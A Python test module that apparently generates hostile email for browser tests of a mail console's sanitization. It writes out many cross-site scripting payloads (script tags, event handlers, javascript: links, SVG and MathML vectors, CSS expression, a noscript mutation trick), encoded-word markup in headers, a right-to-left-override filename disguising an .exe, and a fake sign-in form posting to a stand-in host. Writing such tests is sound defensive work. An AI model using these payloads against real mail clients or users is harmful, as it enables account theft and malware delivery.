"""Hostile mail for the console tests, built here rather than committed as fixtures.

Each message tries to run script, load something remote or pass markup off as a name in
one more way: script tags, event handlers, ``javascript:`` links, SVG and MathML, CSS
``expression()`` and ``url()``, ``<meta refresh>``, ``<base>``, forms, frames, RFC 2047
encoded words that decode to markup, and right-to-left overrides in file names. Every
payload that would run calls ``alert`` or fetches from ``remote.example``, so the browser
test only has to listen for dialogs and requests.
"""

from __future__ import annotations

from base64 import b64encode

REMOTE = "http://remote.example"
SCRIPT_SUBJECT = "<script>alert('subject')</script> Invoice"
IMG_NAME = "<img src=x onerror=alert('name')>"


def encoded(text: str) -> str:
    return "=?utf-8?b?" + b64encode(text.encode()).decode() + "?="


HTML_BODY = f"""<html><head><title>x</title>
<meta http-equiv="refresh" content="0;url={REMOTE}/refresh"><base href="{REMOTE}/">
<link rel="stylesheet" href="{REMOTE}/style.css">
<style>@import url({REMOTE}/import.css); body {{ background: url({REMOTE}/bg.png) }}</style>
<script src="{REMOTE}/evil.js"></script><script>alert('script')</script></head>
<body onload="alert('onload')">
<p onclick="alert('click')" style="width: expression(alert('expr'));
 background-image: url({REMOTE}/css.png)">Please verify your account.</p>
<a href="javascript:alert('href')">verify</a> <a href="  JaVaScRiPt:alert('case')">again</a>
<a href="data:text/html,<script>alert('data')</script>">data</a>
<img src="{REMOTE}/pixel.gif" onerror="alert('img')"><img src=x onerror="alert('img2')">
<svg onload="alert('svg')"><script>alert('svg-script')</script>
<image href="{REMOTE}/svg.png"/><a xlink:href="javascript:alert('xlink')">s</a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
<iframe src="{REMOTE}/frame"></iframe><object data="{REMOTE}/object"></object>
<embed src="{REMOTE}/embed"><video poster="{REMOTE}/poster.png"></video>
<form action="{REMOTE}/form"><input name="password"><button>Sign in</button></form>
<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></noscript>
<table background="{REMOTE}/table.png"><tr><td>cell</td></tr></table>
</body></html>"""


def html_message(number: int) -> bytes:
    return (
        f"From: {encoded(IMG_NAME)} support@wildix.com <billing{number}@paypa1.example>\r\n"
        "To: support@wildix.com\r\n"
        f"Subject: {encoded(SCRIPT_SUBJECT)}\r\n"
        f"Message-ID: <hostile-html-{number}@paypa1.example>\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        "--outer\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "<script>alert('text')</script> see the <b>attached</b> invoice\r\n"
        "--outer\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{HTML_BODY}\r\n"
        "--outer\r\nContent-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment;"
        f' filename="{encoded("invoice" + chr(0x202E) + "fdp.exe")}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n"
        "--outer\r\nContent-Type: image/svg+xml\r\n"
        f'Content-Disposition: attachment; filename="{encoded(IMG_NAME + ".svg")}"\r\n\r\n'
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('attached')\"/>\r\n"
        "--outer--\r\n"
    ).encode()


def svg_only_message() -> bytes:
    """An HTML part that is nothing but SVG, and a subject that closes a tag."""
    return (
        f'From: "{IMG_NAME}" <svg@remote.example>\r\n'
        "To: support@wildix.com\r\n"
        "Subject: \"><svg onload=alert('subject2')>\r\n"
        "Message-ID: <hostile-svg@remote.example>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<svg><foreignObject><iframe src='{REMOTE}/fo'></iframe></foreignObject>"
        "<animate attributeName='href' to='javascript:alert(1)'/></svg>\r\n"
    ).encode()
